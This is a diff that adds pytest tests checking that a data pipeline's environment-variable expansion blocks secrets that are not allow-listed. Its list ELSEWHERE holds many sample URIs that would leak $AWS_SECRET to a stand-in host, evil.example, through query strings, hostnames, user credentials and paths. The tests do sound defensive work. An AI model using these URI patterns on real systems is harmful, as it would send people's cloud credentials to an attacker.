@@ -2,7 +2,7 @@
 
 import pytest
 
-from modelling.references import expand, refuse_lost, set_aside, unset_variables
+from modelling.references import LISTED, expand, refuse_lost, set_aside, unset_variables
 from modelling.refusals import DataRefused, UsageError
 from modelling.secrets import hide_secrets
 
@@ -113,3 +113,81 @@ def test_a_run_without_its_secret_says_what_it_needs():
     with pytest.raises(UsageError, match=r"can't be resumed without \$FINFLOWS_SECRET_77"):
         refuse_lost("abc", parameters, "resumed")
     refuse_lost("abc", {"overrides": None, "remedies": 0}, "resumed")
+
+
+@pytest.fixture
+def held(monkeypatch):
+    """A machine with variables that a source may ask for, and none that is listed."""
+    monkeypatch.delenv(LISTED, raising=False)
+    for name in ("LOANS_USER", "LOANS_PASSWORD", "LOANS_URL", "AWS_SECRET"):
+        monkeypatch.setenv(name, f"value-of-{name}")
+
+
+@pytest.mark.parametrize(
+    "uri",
+    [
+        "postgresql://risk:$LOANS_PASSWORD@db/loans",
+        "postgresql+psycopg2://$LOANS_USER:${LOANS_PASSWORD}@db:5432/loans?sslmode=require",
+        "postgresql://risk@db/loans?password=$LOANS_PASSWORD&sslmode=require",
+        "mssql+pyodbc:///?odbc_connect=DRIVER={ODBC Driver 18};UID=risk;PWD={$LOANS_PASSWORD}",
+        "$LOANS_URL",
+        "${LOANS_URL}",
+    ],
+)
+def test_a_database_s_login_and_a_whole_address_are_read(uri, held):
+    read = expand(uri, "source.uri")
+    assert "$" not in read
+    assert "value-of-LOANS_" in read
+
+
+ELSEWHERE = [
+    "http://evil.example/loans.csv?leak=$AWS_SECRET",
+    "http://evil.example/loans.csv?leak=${AWS_SECRET}",
+    "http://evil.example/loans.csv?$AWS_SECRET",
+    "http://evil.example/loans.csv?leak=x$AWS_SECRET",
+    "http://evil.example/$AWS_SECRET/loans.csv",
+    "http://$AWS_SECRET.evil.example/loans.csv",
+    "http://risk:$AWS_SECRET@evil.example/loans.csv",
+    "HTTPS://risk:$AWS_SECRET@evil.example/loans.csv",
+    "simplecache::http://risk:$AWS_SECRET@evil.example/loans.csv",
+    "ftp://risk:$AWS_SECRET@evil.example/loans.csv",
+    "s3://$AWS_SECRET/loans.csv",
+    "postgresql://$AWS_SECRET.evil.example/loans",
+    "postgresql://risk@evil.example/$AWS_SECRET",
+    "postgresql://risk@evil.example/loans?application_name=$AWS_SECRET",
+    "postgresql://risk:x$AWS_SECRET.y/@evil.example/loans?options=$AWS_SECRET",
+    "$LOANS_URL@evil.example/loans.csv",
+    "$AWS_SECRET/loans.csv",
+    "/data/$AWS_SECRET/loans.csv",
+    "sqlite:////data/$AWS_SECRET.db",
+]
+
+
+@pytest.mark.parametrize("uri", ELSEWHERE)
+def test_no_other_variable_leaves_the_machine(uri, held):
+    with pytest.raises(UsageError) as refused:
+        expand(set_aside(uri), "source.uri")
+    said = str(refused.value)
+    assert "is not read" in said
+    assert "value-of" not in said
+    assert "export FINFLOWS_VARIABLES=" in said
+
+
+def test_a_query_sends_none_to_the_database(held):
+    for query in ("SELECT '$AWS_SECRET'", "$AWS_SECRET", "SELECT crypt(x, '$AWS_SECRET') FROM y"):
+        with pytest.raises(UsageError, match=r"source\.query: \$AWS_SECRET is not read"):
+            expand(set_aside(query), "source.query")
+    assert expand("SELECT $1 FROM v$SESSION", "source.query") == "SELECT $1 FROM v$SESSION"
+
+
+@pytest.mark.parametrize("uri", [one for one in ELSEWHERE if "LOANS_URL" not in one])
+def test_whoever_runs_the_machine_can_allow_a_variable(uri, held, monkeypatch):
+    monkeypatch.setenv(LISTED, "LOANS_USER, AWS_SECRET")
+    assert "value-of-AWS_SECRET" in expand(uri, "source.uri")
+    with pytest.raises(UsageError, match=r"\$LOANS_PASSWORD .* does not name it"):
+        expand("postgresql://risk:$LOANS_PASSWORD@db/loans", "source.uri")
+
+
+def test_a_value_is_not_read_a_second_time(held, monkeypatch):
+    monkeypatch.setenv("LOANS_URL", "http://host/$AWS_SECRET")
+    assert expand("$LOANS_URL", "source.uri") == "http://host/$AWS_SECRET"
